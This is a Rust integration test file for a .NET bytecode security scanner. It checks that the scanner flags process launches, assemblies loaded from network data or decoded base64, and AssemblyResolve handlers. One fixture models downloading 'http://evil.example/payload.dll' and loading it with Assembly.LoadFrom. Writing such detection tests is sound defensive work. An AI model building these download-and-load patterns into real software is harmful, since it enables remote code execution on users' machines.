//! End-to-end scenarios exercised through the public `scan()` entry
//! point only, the way a host application would drive the crate.

use clrscan_core::bytecode::{
    DefaultEntryPointProvider, ExceptionHandler, ExceptionHandlerKind, Instruction, MethodDef, MethodRef, Opcode,
    Operand, ParsedModule, ResolverProvider, TypeDef,
};
use clrscan_core::rules::RuleRegistry;
use clrscan_core::{scan, ScanConfig, Severity};

struct NoopResolverProvider;
impl ResolverProvider for NoopResolverProvider {
    fn build_resolver(&self) -> Box<dyn std::any::Any + Send + Sync> {
        Box::new(())
    }
}

fn empty_module() -> ParsedModule {
    ParsedModule {
        assembly_name: "Test".into(),
        assembly_version: "1.0.0.0".into(),
        module_name: "Test.dll".into(),
        types: vec![],
        resources: vec![],
        module_refs: vec![],
        pinvoke_decls: vec![],
        custom_attributes: vec![],
    }
}

fn method(name: &str, declaring_type: &str, instructions: Vec<Instruction>) -> MethodDef {
    MethodDef {
        name: name.into(),
        declaring_type: declaring_type.into(),
        param_count: 0,
        has_this: false,
        returns_void: true,
        instructions: Some(instructions),
        locals: vec![],
        exception_handlers: vec![],
        is_static_constructor: false,
    }
}

fn ty(namespace: &str, name: &str, methods: Vec<MethodDef>) -> TypeDef {
    TypeDef {
        namespace: namespace.into(),
        name: name.into(),
        nested_types: vec![],
        methods,
        properties: vec![],
        events: vec![],
        custom_attributes: vec![],
    }
}

fn str_instr(offset: u32, s: &str) -> Instruction {
    Instruction::new(offset, Opcode::LdStr, Operand::String(s.to_string()))
}

fn call(offset: u32, declaring_type: &str, name: &str, params: u16) -> Instruction {
    Instruction::new(
        offset,
        Opcode::Call,
        Operand::Method(MethodRef {
            declaring_type: declaring_type.into(),
            name: name.into(),
            param_count: params,
            has_this: false,
            returns_void: false,
        }),
    )
}

fn new_obj(offset: u32, declaring_type: &str, name: &str, params: u16) -> Instruction {
    Instruction::new(
        offset,
        Opcode::NewObj,
        Operand::Method(MethodRef {
            declaring_type: declaring_type.into(),
            name: name.into(),
            param_count: params,
            has_this: true,
            returns_void: true,
        }),
    )
}

fn run(module: &ParsedModule) -> Vec<clrscan_core::Finding> {
    let rules = RuleRegistry::new();
    let provider = DefaultEntryPointProvider;
    let resolver = NoopResolverProvider;
    scan(module, "Test.dll", ScanConfig::default(), &rules, &provider, &resolver).findings
}

#[test]
fn bare_process_start_is_a_single_critical_finding() {
    let mut module = empty_module();
    module.types.push(ty(
        "X",
        "Y",
        vec![method(
            "Run",
            "X.Y",
            vec![
                str_instr(0, "notepad.exe"),
                call(1, "System.Diagnostics.Process", "Start", 1),
            ],
        )],
    ));

    let findings = run(&module);
    let process_findings: Vec<_> = findings.iter().filter(|f| f.rule_id.as_deref() == Some("ProcessStartRule")).collect();
    assert_eq!(process_findings.len(), 1);
    assert_eq!(process_findings[0].severity, Severity::Critical);
    assert!(process_findings[0].description.contains("notepad.exe"));
}

#[test]
fn safe_prefix_assembly_load_is_fully_suppressed() {
    let mut module = empty_module();
    module.types.push(ty(
        "X",
        "Y",
        vec![method(
            "Run",
            "X.Y",
            vec![
                str_instr(0, "System.Xml"),
                call(1, "System.Reflection.Assembly", "Load", 1),
            ],
        )],
    ));

    let findings = run(&module);
    assert!(findings.is_empty());
}

#[test]
fn network_sourced_loadfrom_is_high_or_above_with_network_mentioned() {
    let mut module = empty_module();
    module.types.push(ty(
        "X",
        "Y",
        vec![method(
            "Run",
            "X.Y",
            vec![
                str_instr(0, "http://evil.example/payload.dll"),
                call(1, "System.Net.WebClient", "DownloadData", 1),
                call(2, "System.Reflection.Assembly", "LoadFrom", 1),
            ],
        )],
    ));

    let findings = run(&module);
    let load_findings: Vec<_> = findings.iter().filter(|f| f.rule_id.as_deref() == Some("AssemblyDynamicLoadRule")).collect();
    assert_eq!(load_findings.len(), 1);
    assert!(load_findings[0].severity >= Severity::High);
    assert!(load_findings[0].risk_score.unwrap_or(0) >= 50);
    assert!(load_findings[0].description.contains("Assembly.LoadFrom"));
    assert!(load_findings[0].description.contains("network"));
}

#[test]
fn decoded_network_sourced_load_reaches_critical_bypass_and_correlates_in_deep_pass() {
    let mut module = empty_module();
    module.types.push(ty(
        "X",
        "Y",
        vec![method(
            "Run",
            "X.Y",
            vec![
                call(0, "System.Net.Http.HttpClient", "PostAsync", 1),
                str_instr(1, "48656c6c6f576f726c64546573743132"),
                call(2, "System.Convert", "FromBase64String", 1),
                call(3, "System.Reflection.Assembly", "Load", 1),
                call(4, "System.Activator", "CreateInstance", 1),
                str_instr(5, "notepad.exe"),
                call(6, "System.Diagnostics.Process", "Start", 1),
            ],
        )],
    ));

    let findings = run(&module);

    let load_findings: Vec<_> = findings.iter().filter(|f| f.rule_id.as_deref() == Some("AssemblyDynamicLoadRule")).collect();
    assert_eq!(load_findings.len(), 1);
    assert_eq!(load_findings[0].severity, Severity::Critical);
    assert!(load_findings[0].bypass_companion);
    assert!(load_findings[0].risk_score.unwrap_or(0) >= 75);

    assert!(findings
        .iter()
        .any(|f| f.rule_id.as_deref() == Some("DeepDynamicLoadCorrelationRule") && f.severity == Severity::Critical));
}

#[test]
fn assembly_resolve_subscription_with_crypto_and_network_handler_is_flagged() {
    let handler = method(
        "OnResolve",
        "X.Y",
        vec![
            call(0, "System.Net.WebClient", "DownloadData", 1),
            new_obj(1, "System.Security.Cryptography.Aes", "Create", 0),
            call(2, "System.Reflection.Assembly", "Load", 1),
        ],
    );
    let subscriber = method(
        "Init",
        "X.Y",
        vec![
            Instruction::new(
                0,
                Opcode::LdFtn(MethodRef {
                    declaring_type: "X.Y".into(),
                    name: "OnResolve".into(),
                    param_count: 2,
                    has_this: false,
                    returns_void: false,
                }),
                Operand::None,
            ),
            call(1, "System.AppDomain", "add_AssemblyResolve", 1),
        ],
    );

    let mut module = empty_module();
    module.types.push(ty("X", "Y", vec![subscriber, handler]));

    let findings = run(&module);
    let resolve_findings: Vec<_> = findings
        .iter()
        .filter(|f| f.rule_id.as_deref() == Some("AssemblyDynamicLoadRule") && f.description.contains("AssemblyResolve"))
        .collect();
    assert_eq!(resolve_findings.len(), 1);
    assert_eq!(resolve_findings[0].severity, Severity::High);
    assert!(resolve_findings[0].description.contains("AssemblyResolve/Resolving event subscription"));
    assert!(resolve_findings[0].description.contains("Handler:"));
    assert!(resolve_findings[0].bypass_companion);
}

#[test]
fn process_start_inside_a_catch_block_is_flagged_and_marks_signals() {
    let mut m = method(
        "Run",
        "X.Y",
        vec![
            str_instr(10, "notepad.exe"),
            call(11, "System.Diagnostics.Process", "Start", 1),
        ],
    );
    m.exception_handlers.push(ExceptionHandler {
        kind: ExceptionHandlerKind::Catch,
        try_start: 0,
        try_end: 10,
        handler_start: 10,
        handler_end: 20,
        catch_type: Some("System.Exception".into()),
    });

    let mut module = empty_module();
    module.types.push(ty("X", "Y", vec![m]));

    let findings = run(&module);
    assert!(findings
        .iter()
        .any(|f| f.rule_id.as_deref() == Some("ExceptionHandlerRule") && f.description.contains("catch block")));
    assert!(findings.iter().any(|f| f.rule_id.as_deref() == Some("ProcessStartRule")));
}
